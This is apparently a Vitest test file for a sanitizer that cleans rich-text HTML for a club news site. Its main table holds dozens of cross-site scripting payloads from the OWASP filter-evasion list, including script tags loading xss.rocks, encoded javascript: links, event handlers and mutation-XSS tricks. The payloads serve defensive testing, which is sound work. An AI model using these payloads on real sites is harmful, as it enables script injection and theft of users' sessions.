import { describe, expect, test } from 'vitest'
import type { Picture } from '../contract/fields.ts'
import { inlineMediaIds, sanitizeRichText } from './richtext.ts'

const ours: Picture = {
  src: '/media/a-2400.jpg',
  base: '/media/a',
  width: 2400,
  height: 1200,
  widths: [320, 640, 960, 1280, 1920, 2400],
  formats: ['avif', 'webp', 'jpg'],
  placeholder: '',
}
const small: Picture = {
  ...ours,
  src: '/media/b-200.jpg',
  base: '/media/b',
  width: 200,
  height: 100,
  widths: [200],
}
const stored = new Map([
  ['a', ours],
  ['b', small],
])
const media = {
  idOf: (path: string) => /^\/media\/([a-z])-\d+\.(?:webp|jpg|avif)$/.exec(path)?.[1] ?? null,
  pictures: async (ids: string[]) => new Map([...stored].filter(([id]) => ids.includes(id))),
}
const clean = async (html: string) => (await sanitizeRichText(html, media)).html

/**
 * What may be in a text, as a grammar: text without angle brackets, and whole tags of the allow-list whose attributes
 * are quoted. Whatever parser reads it reads the same, so nothing can come to life in a browser that was dead here.
 */
const TAGS = 'h2|h3|h4|p|br|hr|ul|ol|li|blockquote|strong|em|u|s|a|img'
const ATTRIBUTES = 'href|rel|src|alt|width|height|loading|decoding|start'
const ALLOWED = new RegExp(
  `^(?:[^<>]|</(?:${TAGS})>|<(?:${TAGS})(?: (?:${ATTRIBUTES})="[^"<>]*")*(?: /)?>)*$`,
)
const PAGE = 'https://club.test/news/x'

function expectHarmless(html: string) {
  expect(html).toMatch(ALLOWED)
  for (const [, href = ''] of html.matchAll(/ href="([^"]*)"/g)) {
    expect(href).not.toMatch(/&#|\p{Cc}/u)
    // As a browser reads it: the schemes of the allow-list, and nobody else's host without saying so.
    const text = href.replaceAll('&quot;', '"').replaceAll('&amp;', '&')
    const url = URL.parse(text, PAGE)
    if (url) expect(['http:', 'https:', 'mailto:', 'tel:']).toContain(url.protocol)
    if (url?.host && !/^https?:\/\//i.test(text)) expect(url.host).toBe('club.test')
  }
  for (const [, source] of html.matchAll(/ src="([^"]*)"/g))
    expect(source).toMatch(/^\/media\/[ab]-\d+\.webp$/)
}

/** The OWASP Filter Evasion Cheat Sheet, and mutations by which parsers were made to disagree. */
const evasions: Record<string, string> = {
  script: '<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>',
  'script in any case': '<ScRiPt>alert(1)</sCrIpT>',
  'script cut in two': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'script twice opened': '<<SCRIPT>alert(1);//<</SCRIPT>',
  'script without an end': '<SCRIPT SRC=https://xss.rocks/xss.js?< B >',
  'script with a slash': '<SCRIPT/XSS SRC="https://xss.rocks/xss.js"></SCRIPT>',
  'script with rubbish': '<SCRIPT a=">" SRC="https://xss.rocks/xss.js"></SCRIPT>',
  'script with a null': '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  'script ended in an attribute': '<script>x="</script><img src=x onerror=alert(1)>"',
  'script in a title': '</TITLE><SCRIPT>alert(1)</SCRIPT>',
  'script in a comment': '<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->',
  'a comment that ends early': '<!--><img src=x onerror=alert(1)>-->',
  'a comment that ends oddly': '<!-- --!><img src=x onerror=alert(1)> -->',
  'javascript:': '<IMG SRC="javascript:alert(1);">',
  'javascript: in a link': '<a href="javascript:alert(1)">x</a>',
  'javascript: in any case': '<a href="JaVaScRiPt:alert(1)">x</a>',
  'javascript: with a tab': '<a href="jav\tascript:alert(1)">x</a>',
  'javascript: with an encoded tab': '<a href="jav&#x09;ascript:alert(1)">x</a>',
  'javascript: with an encoded newline': '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  'javascript: after control characters': '<a href=" &#14;  javascript:alert(1)">x</a>',
  'javascript: after a null': '<a href="\u0000javascript:alert(1)">x</a>',
  'javascript: in decimal':
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  'javascript: in long decimal':
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  'javascript: in hexadecimal':
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  'javascript: with a named colon': '<a href="javascript&colon;alert(1)">x</a>',
  'javascript: behind an entity of an entity': '<a href="javascript&amp;#58;alert(1)">x</a>',
  'javascript: with backticks': '<a href=`javascript:alert("RSnake says, \'x\'")`>x</a>',
  'vbscript:': '<a href="vbscript:msgbox(1)">x</a>',
  'livescript:': '<a href="livescript:[code]">x</a>',
  'data: as a link': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  'blob: and filesystem:': '<a href="blob:https://club.example/1">x</a><a href="filesystem:x">y</a>',
  'another site without a scheme':
    '<a href="//xss.rocks">x</a><a href="\\\\xss.rocks">y</a><a href="/\\xss.rocks">z</a>',
  'another site after a tab': '<a href="/\t/xss.rocks">x</a>',
  'an event handler': '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  'an event handler on an image': '<IMG SRC=/ onerror="alert(1)"></img>',
  'an encoded event handler':
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">',
  'an event handler after a slash': '<p/onclick=alert(1)//x>y</p>',
  'an event handler after a quote': '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
  'an event handler after a malformed attribute': '<a foo=">" onclick=alert(1) title=\'x\'>x</a>',
  'an event handler on body': '<BODY ONLOAD=alert(1)>',
  'an event handler in an alternative text':
    '<img src="/media/a-640.webp" alt="&quot; onerror=&quot;alert(1)">',
  'a style': '<p style="background:url(javascript:alert(1))">x</p>',
  'a style element': "<STYLE>@import'https://xss.rocks/xss.css';</STYLE>",
  'a style that ends early': '<style><!--</style><img src=x onerror=alert(1)>--></style>',
  'a style sheet': '<LINK REL="stylesheet" HREF="https://xss.rocks/xss.css">',
  'an expression': '<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">',
  'an SVG': '<svg/onload=alert(1)><script>alert(1)</script></svg>',
  'an SVG that animates a link':
    '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>y</a></svg>',
  'an object': '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.rocks/x.html"></OBJECT>',
  'an embed': '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml"></EMBED>',
  'a frame':
    '<IFRAME SRC="javascript:alert(1);"></IFRAME><frameset><frame src="javascript:alert(1)"></frameset>',
  'a frame with a document': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'a base': '<BASE HREF="javascript:alert(1);//">',
  'a meta': '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  'a form':
    '<form action="javascript:alert(1)"><input type=image formaction="javascript:alert(1)"><button formaction=x>y</button></form>',
  'a table': '<TABLE BACKGROUND="javascript:alert(1)"><TD BACKGROUND="javascript:alert(1)">x</TABLE>',
  'a picture of another site':
    '<img src="https://xss.rocks/x.png"><img src="//xss.rocks/x.png"><img srcset="https://xss.rocks/x.png 1x">',
  'a picture as data': '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  'a picture of ours that is not there': '<img src="/media/c-640.webp">',
  'a path under /media that is no picture': '<img src="/media/../api/auth/logout">',
  'a video': '<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x>',
  'an unknown element': '<xss id=x tabindex=1 onfocus=alert(1)></xss>',
  'an element with a colon': '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  'a processing instruction': '<?xml version="1.0"?><?import namespace="t"?>',
  CDATA: '<![CDATA[<img src=x onerror=alert(1)>]]>',
  'noscript that changes its meaning': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'textarea that changes its meaning': '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  'title that changes its meaning': '<title><a href="</title><img src=x onerror=alert(1)>">',
  'xmp, plaintext and their like':
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><noembed><img src=x onerror=alert(1)></noembed><plaintext><img src=x onerror=alert(1)>',
  'a template': '<template><img src=x onerror=alert(1)></template>',
  'MathML that leaves its place':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'SVG that leaves its place': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'forms that nest': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'entities that become tags':
    '&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  'numbers that become tags': '&#60;script&#62;alert(1)&#x3c;/script&#x3E;',
  'full-width brackets': '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  'UTF-7': '+ADw-SCRIPT+AD4-alert(1);+ADw-/SCRIPT+AD4-',
  'an attribute without an end': '<a href="https://club.example',
  'a tag without an end': '<p',
  'quotes that do not match': `<a href='https://club.example"onclick=alert(1)//'>x</a>`,
  'names that objects have': '<__proto__ constructor=x><p __proto__=x constructor=y>z</p>',
}

describe('no script survives', () => {
  test.each(Object.entries(evasions))('%s', async (_name, html) => {
    for (const around of [
      html,
      `<p>Antes ${html} después</p>`,
      `<ul><li>${html}`,
      `<a href="https://club.example">${html}`,
    ]) {
      const once = await clean(around)
      expectHarmless(once)
      // What an editor reads and sends back is not changed again.
      expect(await clean(once)).toBe(once)
    }
  })

  test('in a text of any depth or size, in proportion to it', async () => {
    const started = performance.now()
    for (const piece of [
      '<p>',
      '<ul><li>',
      '<strong><em>',
      '<',
      '<a href="',
      '<!--',
      '&',
      '<img src=',
      '<svg>',
      '</p>',
      '<p x=1 ',
    ]) {
      expectHarmless(await clean(piece.repeat(200_000 / piece.length)))
    }
    expect(performance.now() - started).toBeLessThan(15_000)
  })
})

describe('what an editor makes stays', () => {
  const kept = [
    '<h2>Uno</h2><h3>Dos</h3><h4>Tres</h4>',
    '<p>Con <strong>fuerza</strong>, <em>énfasis</em>, <u>raya</u> y <s>tachado</s>.<br />Otra línea.</p>',
    '<ul><li><p>a</p></li><li><p>b</p></li></ul><ol start="3"><li>c</li></ol>',
    '<blockquote><p>Dijo.</p></blockquote><hr />',
    '<p><a href="https://club.example/a?b=c&amp;d=e#f" rel="noopener">x</a></p>',
    '<p><a href="mailto:hola@club.example" rel="noopener">x</a> <a href="tel:+541112345678" rel="noopener">y</a></p>',
    '<p><a href="/news/Otra" rel="noopener">x</a></p>',
    '<p>https://www.youtube.com/watch?v=abc</p>',
    '<p>2 &lt; 3 &amp;&amp; 4 &gt; 3 "comillas" ñandú 🎧</p>',
  ]
  test.each(kept)('%s', async (html) => {
    expect(await clean(html)).toBe(html)
  })

  test.each([
    ['a first heading is the page’s', '<h1>Uno</h1>', '<h2>Uno</h2>'],
    ['levels below the third', '<h5>a</h5><h6>b</h6>', '<h4>a</h4><h4>b</h4>'],
    [
      'old names of emphasis',
      '<b>a</b><i>b</i><strike>c</strike><del>d</del>',
      '<strong>a</strong><em>b</em><s>c</s><s>d</s>',
    ],
    [
      'what a word processor pastes',
      '<div class="MsoNormal" style="x"><span lang="ES">a</span><o:p></o:p></div>',
      '<p>a</p>',
    ],
    [
      'a link that opens elsewhere',
      '<a href="https://club.example" target="_blank" class="x">a</a>',
      '<a href="https://club.example" rel="noopener">a</a>',
    ],
    ['a link that leads nowhere keeps its words', '<p>a <a href="club.example">b</a></p>', '<p>a b</p>'],
    ['a bookmark is no link', '<h2><a name="_Toc1"></a>a</h2>', '<h2>a</h2>'],
  ])('%s', async (_what, html, expected) => {
    expect(await clean(html)).toBe(expected)
  })
})

describe('pictures', () => {
  test('are ours, get the size and the address that the site serves, and are counted once', async () => {
    const { html, mediaIds } = await sanitizeRichText(
      '<p><img src="/media/a-2400.jpg" alt="Una &quot;pista&quot;" width="9" style="x"><IMG SRC=/media/b-200.jpg><img src=\'/media/a-320.avif\'></p>',
      media,
    )
    expect(html).toBe(
      '<p><img src="/media/a-1280.webp" alt="Una &quot;pista&quot;" width="1280" height="640" loading="lazy" decoding="async" />' +
        '<img src="/media/b-200.webp" alt="" width="200" height="100" loading="lazy" decoding="async" />' +
        '<img src="/media/a-1280.webp" alt="" width="1280" height="640" loading="lazy" decoding="async" /></p>',
    )
    expect(mediaIds).toEqual(['a', 'b'])
    expect(new Set(inlineMediaIds(html, media))).toEqual(new Set(mediaIds))
  })

  test('that are not there, or somebody else’s, go', async () => {
    const { html, mediaIds } = await sanitizeRichText(
      '<p>a<img src="/media/c-640.webp"><img src="https://club.example/media/a-640.webp"><img alt="x">b</p>',
      media,
    )
    expect(html).toBe('<p>ab</p>')
    expect(mediaIds).toEqual([])
  })
})
